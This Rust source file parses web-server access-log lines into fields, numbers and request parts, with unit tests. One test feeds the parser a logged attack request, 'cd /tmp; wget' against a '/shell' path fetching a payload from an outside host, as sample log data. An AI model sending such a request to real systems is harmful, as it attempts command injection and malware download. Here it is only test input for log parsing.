//! A cursor over one log line for the space-separated formats: bare words, `"quoted"` fields
//! (backslash escapes skipped, not decoded), `[bracketed]` and `{braced}` fields, and nginx's
//! list fields; plus the number parsers those formats share. Borrowing only.

use std::borrow::Cow;

use memchr::{memchr, memchr2};

use crate::record::Text;

/// Reads fields left to right; every method returns `None` when the field is not there, leaving
/// the cursor where it was.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Cursor<'a> {
    line: &'a str,
    pos: usize,
}

impl<'a> Cursor<'a> {
    pub(crate) fn new(line: &'a str) -> Self {
        Self { line, pos: 0 }
    }

    /// What is left, unread.
    pub(crate) fn rest(&self) -> &'a str {
        &self.line[self.pos..]
    }

    /// Whether everything has been read.
    pub(crate) fn is_done(&self) -> bool {
        self.pos >= self.line.len()
    }

    /// Skips spaces.
    pub(crate) fn skip_spaces(&mut self) {
        let bytes = self.line.as_bytes();
        while self.pos < bytes.len() && bytes[self.pos] == b' ' {
            self.pos += 1;
        }
    }

    /// A run of non-space bytes, then the spaces after it.
    pub(crate) fn word(&mut self) -> Option<&'a str> {
        let rest = &self.line.as_bytes()[self.pos..];
        if rest.is_empty() || rest[0] == b' ' {
            return None;
        }
        let len = find_space(rest);
        let word = &self.line[self.pos..self.pos + len];
        self.pos += len;
        self.skip_spaces();
        Some(word)
    }

    /// A `"..."` field's content (escapes left as logged), then the spaces after it. A backslash
    /// escapes the next byte, so `\"` does not end the field.
    pub(crate) fn quoted(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'"') {
            return None;
        }
        let start = self.pos + 1;
        let mut at = start;
        loop {
            let found = memchr2(b'"', b'\\', &bytes[at..])?;
            let index = at + found;
            if bytes[index] == b'\\' {
                at = index + 2;
                if at > bytes.len() {
                    return None;
                }
                continue;
            }
            let content = &self.line[start..index];
            self.pos = index + 1;
            self.skip_spaces();
            return Some(content);
        }
    }

    /// A `[...]` field's content (no nesting; `]` ends it), then the spaces after it.
    pub(crate) fn bracketed(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'[') {
            return None;
        }
        let start = self.pos + 1;
        let end = start + memchr(b']', &bytes[start..])?;
        self.pos = end + 1;
        self.skip_spaces();
        Some(&self.line[start..end])
    }

    /// A `"..."` field's content for formats that write the text raw (Traefik, HAProxy): the
    /// first `"` ends it, a backslash is an ordinary byte. Then the spaces after it.
    pub(crate) fn quoted_raw(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'"') {
            return None;
        }
        let start = self.pos + 1;
        let end = start + memchr(b'"', &bytes[start..])?;
        self.pos = end + 1;
        self.skip_spaces();
        Some(&self.line[start..end])
    }

    /// A `{...}` field's content (HAProxy captured headers; no nesting), then the spaces after it.
    pub(crate) fn braced(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'{') {
            return None;
        }
        let start = self.pos + 1;
        let end = start + memchr(b'}', &bytes[start..])?;
        self.pos = end + 1;
        self.skip_spaces();
        Some(&self.line[start..end])
    }

    /// The text up to the next `byte` with trailing spaces trimmed, leaving the cursor on that
    /// byte; `None` if the byte does not follow or nothing but spaces comes before it. For
    /// unquoted fields that may hold spaces, such as nginx's `$remote_user` before `[`.
    pub(crate) fn text_before(&mut self, byte: u8) -> Option<&'a str> {
        let rest = &self.line.as_bytes()[self.pos..];
        let len = memchr(byte, rest)?;
        // The field must be separated from the delimiter by a space, as the formats write it.
        if len < 2 || rest[len - 1] != b' ' {
            return None;
        }
        let text = self.line[self.pos..self.pos + len].trim_end_matches(' ');
        if text.is_empty() {
            return None;
        }
        self.pos += len;
        Some(text)
    }

    /// An nginx list field (`$upstream_addr`, `$upstream_status`, ...) as logged: items joined by
    /// `", "` (servers tried) or `" : "` (upstream groups after an internal redirect). The field
    /// goes on while an item ends with `,` or the next word is a lone `:`. `None`, leaving the
    /// cursor where it was, when the field is missing or a separator has nothing after it.
    pub(crate) fn list(&mut self) -> Option<&'a str> {
        let start = self.pos;
        let mut probe = *self;
        loop {
            let item_start = probe.pos;
            let item = probe.word()?;
            let end = item_start + item.len();
            if item.ends_with(',') {
                continue;
            }
            let rest = probe.rest().as_bytes();
            if rest.first() == Some(&b':') && matches!(rest.get(1), None | Some(&b' ')) {
                probe.pos += 1;
                probe.skip_spaces();
                continue;
            }
            *self = probe;
            return Some(&self.line[start..end]);
        }
    }

    /// A literal, then the spaces after it.
    pub(crate) fn literal(&mut self, text: &str) -> Option<()> {
        if self.rest().starts_with(text) {
            self.pos += text.len();
            self.skip_spaces();
            Some(())
        } else {
            None
        }
    }
}

/// The index of the first space in `bytes` (its length when there is none), eight bytes at a
/// time: words are short, too short for memchr's setup to pay, too long for a byte loop to be
/// cheap. The lowest flagged byte of the zero-byte test is always a real space.
fn find_space(bytes: &[u8]) -> usize {
    const ONES: u64 = 0x0101_0101_0101_0101;
    const HIGHS: u64 = 0x8080_8080_8080_8080;
    const SPACES: u64 = 0x2020_2020_2020_2020;
    let mut chunks = bytes.chunks_exact(8);
    let mut offset = 0;
    for chunk in chunks.by_ref() {
        let mut word = [0u8; 8];
        word.copy_from_slice(chunk);
        let x = u64::from_le_bytes(word) ^ SPACES;
        let found = x.wrapping_sub(ONES) & !x & HIGHS;
        if found != 0 {
            return offset + (found.trailing_zeros() / 8) as usize;
        }
        offset += 8;
    }
    let tail = chunks.remainder();
    offset + tail.iter().position(|&b| b == b' ').unwrap_or(tail.len())
}

/// `None` for the "not set" spellings (`-`, empty), the text otherwise.
pub(crate) fn unset_to_none(text: &str) -> Option<&str> {
    match text {
        "" | "-" => None,
        other => Some(other),
    }
}

/// [`unset_to_none`], borrowed into a record field.
pub(crate) fn text(text: &str) -> Option<Text<'_>> {
    unset_to_none(text).map(Cow::Borrowed)
}

/// An unsigned decimal integer of ASCII digits only (no sign, no spaces); `None` on overflow.
pub(crate) fn parse_u64(text: &str) -> Option<u64> {
    if text.is_empty() {
        return None;
    }
    let mut value: u64 = 0;
    for &byte in text.as_bytes() {
        if !byte.is_ascii_digit() {
            return None;
        }
        value = value.checked_mul(10)?.checked_add(u64::from(byte - b'0'))?;
    }
    Some(value)
}

/// An HTTP status: one to three ASCII digits (nginx always writes three; `009` is HTTP/0.9).
pub(crate) fn parse_status(text: &str) -> Option<u16> {
    if text.len() > 3 {
        return None;
    }
    parse_u64(text).and_then(|value| u16::try_from(value).ok())
}

/// Powers of ten that an `f64` holds exactly.
const POWERS_OF_TEN: [f64; 16] = [
    1e0, 1e1, 1e2, 1e3, 1e4, 1e5, 1e6, 1e7, 1e8, 1e9, 1e10, 1e11, 1e12, 1e13, 1e14, 1e15,
];

/// A decimal number of seconds as nginx writes it (`0.001`, `12`): digits, optionally a dot and
/// more digits. No sign, no exponent.
pub(crate) fn parse_seconds(text: &str) -> Option<f64> {
    let (whole, fraction) = match memchr(b'.', text.as_bytes()) {
        Some(dot) => (&text[..dot], Some(&text[dot + 1..])),
        None => (text, None),
    };
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    if !all_digits(whole) || !fraction.is_none_or(all_digits) {
        return None;
    }
    let fraction = fraction.unwrap_or("");
    if whole.len() + fraction.len() > 15 {
        // Too many digits to stay exact below; the standard parser rounds correctly.
        return text.parse().ok();
    }
    // Fifteen digits fit an f64 mantissa exactly, and one correctly rounded division by an exact
    // power of ten gives the same value as parsing the decimal text.
    let mut mantissa: u64 = 0;
    for byte in whole.bytes().chain(fraction.bytes()) {
        mantissa = mantissa * 10 + u64::from(byte - b'0');
    }
    let scale = POWERS_OF_TEN.get(fraction.len())?;
    Some(mantissa as f64 / scale)
}

/// Splits a request line `METHOD TARGET PROTO` into method, path, query and protocol. The target
/// may contain spaces (ALB logs it unescaped), so the method is the first word and the protocol
/// the last, when it looks like one. Absolute targets (`http://host/x`, proxy requests) keep their
/// scheme and host in the path; callers that want the host take it with [`split_absolute`].
pub(crate) fn split_request(request: &str) -> RequestLine<'_> {
    let mut line = RequestLine::default();
    if request.is_empty() || request == "-" {
        return line;
    }
    // Every cut is at an ASCII byte found by memchr, so it is a char boundary.
    let (method, rest) = match memchr(b' ', request.as_bytes()) {
        Some(at) => (&request[..at], &request[at + 1..]),
        None => {
            line.method = Some(request);
            return line;
        }
    };
    line.method = unset_to_none(method);
    let (target, protocol) = match memchr::memrchr(b' ', rest.as_bytes()) {
        Some(at) if rest[at + 1..].starts_with("HTTP/") || rest[at + 1..].starts_with("http/") => {
            (&rest[..at], Some(&rest[at + 1..]))
        }
        _ => (rest, None),
    };
    line.protocol = protocol;
    match memchr(b'?', target.as_bytes()) {
        Some(at) => {
            line.path = unset_to_none(&target[..at]);
            line.query = Some(&target[at + 1..]);
        }
        None => line.path = unset_to_none(target),
    }
    line
}

/// The parts of a request line.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub(crate) struct RequestLine<'a> {
    pub(crate) method: Option<&'a str>,
    pub(crate) path: Option<&'a str>,
    pub(crate) query: Option<&'a str>,
    pub(crate) protocol: Option<&'a str>,
}

/// `http://host:port/path` into (`host` without port, `/path`); `None` if not absolute.
#[allow(
    dead_code,
    reason = "for formats that log absolute URLs (AWS ALB, GCP); none of part A"
)]
pub(crate) fn split_absolute(target: &str) -> Option<(&str, &str)> {
    let rest = target
        .strip_prefix("http://")
        .or_else(|| target.strip_prefix("https://"))
        .or_else(|| target.strip_prefix("HTTP://"))
        .or_else(|| target.strip_prefix("HTTPS://"))?;
    let (authority, path) = match memchr(b'/', rest.as_bytes()) {
        Some(index) => (&rest[..index], &rest[index..]),
        None => (rest, "/"),
    };
    Some((strip_port(authority), path))
}

/// `host:port` → `host`; `[v6]:port` → `v6`; a bare IPv6 address is left whole.
pub(crate) fn strip_port(authority: &str) -> &str {
    if let Some(rest) = authority.strip_prefix('[') {
        return rest.split_once(']').map_or(rest, |(host, _)| host);
    }
    match authority.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => {
            host
        }
        _ => authority,
    }
}

/// Inputs for the never-panic tests of the parsers: every prefix and suffix (cut on char
/// boundaries) of every line, and every line with one char replaced by each of the bytes that
/// delimit fields (and a multi-byte char, to catch slicing off char boundaries).
#[cfg(test)]
pub(crate) fn mangled(lines: &[&str]) -> Vec<String> {
    const REPLACEMENTS: [char; 18] = [
        '"', '[', ']', '{', '}', '\\', ':', ',', '-', '/', ' ', '0', '9', '.', 'x', '?', '<',
        '\u{e9}',
    ];
    let mut out = Vec::new();
    for line in lines {
        for (at, ch) in line.char_indices() {
            out.push(line[..at].to_owned());
            out.push(line[at..].to_owned());
            for replacement in REPLACEMENTS {
                let mut mangled = String::with_capacity(line.len() + 2);
                mangled.push_str(&line[..at]);
                mangled.push(replacement);
                mangled.push_str(&line[at + ch.len_utf8()..]);
                out.push(mangled);
            }
        }
        out.push((*line).to_owned());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_space_finds_the_first_space_at_every_position() {
        for len in 0..40 {
            for at in 0..=len {
                let mut bytes = vec![b'x'; len];
                if at < len {
                    bytes[at] = b' ';
                }
                // Bytes that look like a space to a careless bit trick: 0x20 ± 0x80.
                bytes.extend_from_slice(b" \xa0 ");
                let expected = if at < len { at } else { len };
                assert_eq!(find_space(&bytes), expected, "len {len}, at {at}");
            }
        }
        assert_eq!(find_space(b""), 0);
        assert_eq!(find_space(&[0xa0, 0x21, 0x1f, 0x60, 0xe0, 0x20]), 5);
    }

    #[test]
    fn cursor_reads_words_quotes_and_brackets() {
        let mut cursor =
            Cursor::new(r#"1.2.3.4 - [07/Feb/2020:11:48:51 +0000] "GET / HTTP/1.1" "a \"b\"" end"#);
        assert_eq!(cursor.word(), Some("1.2.3.4"));
        assert_eq!(cursor.word(), Some("-"));
        assert_eq!(cursor.bracketed(), Some("07/Feb/2020:11:48:51 +0000"));
        assert_eq!(cursor.quoted(), Some("GET / HTTP/1.1"));
        assert_eq!(cursor.quoted(), Some(r#"a \"b\""#));
        assert_eq!(cursor.word(), Some("end"));
        assert!(cursor.is_done());
    }

    #[test]
    fn an_unterminated_quote_is_none() {
        assert_eq!(Cursor::new(r#""GET / HTTP/1.1"#).quoted(), None);
        assert_eq!(Cursor::new(r#""GET \"#).quoted(), None);
    }

    #[test]
    fn request_line_with_spaces_in_the_target() {
        let line = split_request("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1");
        assert_eq!(line.method, Some("GET"));
        assert_eq!(line.path, Some("http://127.0.0.1:80/shell"));
        assert_eq!(line.query, Some("cd+/tmp;wget+ a.tk/jaws"));
        assert_eq!(line.protocol, Some("HTTP/1.1"));
        assert_eq!(
            split_absolute("http://127.0.0.1:80/shell"),
            Some(("127.0.0.1", "/shell"))
        );
    }

    #[test]
    fn junk_request_lines_keep_what_they_have() {
        assert_eq!(split_request("hello").method, Some("hello"));
        assert_eq!(split_request("-"), RequestLine::default());
        assert_eq!(
            split_request("PATCHp /products/42 HTTP/1.1").method,
            Some("PATCHp")
        );
    }

    #[test]
    fn ports_are_stripped_from_hosts() {
        assert_eq!(strip_port("example.com:8080"), "example.com");
        assert_eq!(strip_port("[2001:db8::1]:443"), "2001:db8::1");
        assert_eq!(strip_port("2001:db8::1"), "2001:db8::1");
        assert_eq!(strip_port("example.com"), "example.com");
    }

    #[test]
    fn raw_quotes_end_at_the_first_quote_and_keep_backslashes() {
        let mut cursor = Cursor::new(r#""C:\dir\" next"#);
        assert_eq!(cursor.quoted_raw(), Some(r"C:\dir\"));
        assert_eq!(cursor.word(), Some("next"));
        assert_eq!(Cursor::new(r#""open"#).quoted_raw(), None);
    }

    #[test]
    fn braces_hold_spaces() {
        let mut cursor = Cursor::new("{Mozilla/5.0 (X11)|1wt.eu} {} \"GET /\"");
        assert_eq!(cursor.braced(), Some("Mozilla/5.0 (X11)|1wt.eu"));
        assert_eq!(cursor.braced(), Some(""));
        assert_eq!(cursor.braced(), None);
        assert_eq!(cursor.quoted(), Some("GET /"));
    }

    #[test]
    fn text_before_a_delimiter_keeps_inner_spaces() {
        let mut cursor = Cursor::new("John Doe  [07/Feb/2020:11:48:51 +0000]");
        assert_eq!(cursor.text_before(b'['), Some("John Doe"));
        assert_eq!(cursor.bracketed(), Some("07/Feb/2020:11:48:51 +0000"));
        // The delimiter must follow a space, and something must come before it.
        assert_eq!(Cursor::new("user[x]").text_before(b'['), None);
        assert_eq!(Cursor::new("  [x]").text_before(b'['), None);
        assert_eq!(Cursor::new("user").text_before(b'['), None);
    }

    #[test]
    fn lists_continue_over_commas_and_colons() {
        let mut cursor =
            Cursor::new("10.0.0.1:80, 10.0.0.2:80 : unix:/run/php.sock - 0.100, - 200 : 404 id");
        assert_eq!(
            cursor.list(),
            Some("10.0.0.1:80, 10.0.0.2:80 : unix:/run/php.sock")
        );
        assert_eq!(cursor.list(), Some("-"));
        assert_eq!(cursor.list(), Some("0.100, -"));
        assert_eq!(cursor.list(), Some("200 : 404"));
        assert_eq!(cursor.word(), Some("id"));
        assert!(cursor.is_done());
    }

    #[test]
    fn a_list_cut_after_a_separator_is_none_and_reads_nothing() {
        let mut cursor = Cursor::new("502, ");
        assert_eq!(cursor.list(), None);
        assert_eq!(cursor.rest(), "502, ");
        assert_eq!(Cursor::new("502 :").list(), None);
        // A word that merely starts with a colon is the next field, not a separator.
        let mut cursor = Cursor::new("502 :id");
        assert_eq!(cursor.list(), Some("502"));
        assert_eq!(cursor.word(), Some(":id"));
    }

    #[test]
    fn numbers_are_digits_only() {
        assert_eq!(parse_u64("59"), Some(59));
        assert_eq!(parse_u64("18446744073709551615"), Some(u64::MAX));
        assert_eq!(parse_u64("18446744073709551616"), None);
        assert_eq!(parse_u64(""), None);
        assert_eq!(parse_u64("-1"), None);
        assert_eq!(parse_u64("+1"), None);
        assert_eq!(parse_status("200"), Some(200));
        assert_eq!(parse_status("009"), Some(9));
        assert_eq!(parse_status("2000"), None);
        assert_eq!(parse_status("-"), None);
    }

    #[test]
    fn seconds_match_the_standard_parser() {
        for text in [
            "0.001",
            "0.000",
            "1.000",
            "0.100",
            "12",
            "0.033",
            "3600.5",
            "123456789.123456",
        ] {
            assert_eq!(parse_seconds(text), text.parse::<f64>().ok(), "{text}");
        }
        for text in ["", "-", ".5", "1.", "1.2.3", "1e3", "-1.0", "0,1", "\u{e9}"] {
            assert_eq!(parse_seconds(text), None, "{text}");
        }
    }

    #[test]
    fn unset_text_is_none_and_set_text_is_borrowed() {
        assert_eq!(text("-"), None);
        assert_eq!(text(""), None);
        assert!(matches!(
            text("curl/8.4.0"),
            Some(Cow::Borrowed("curl/8.4.0"))
        ));
    }
}
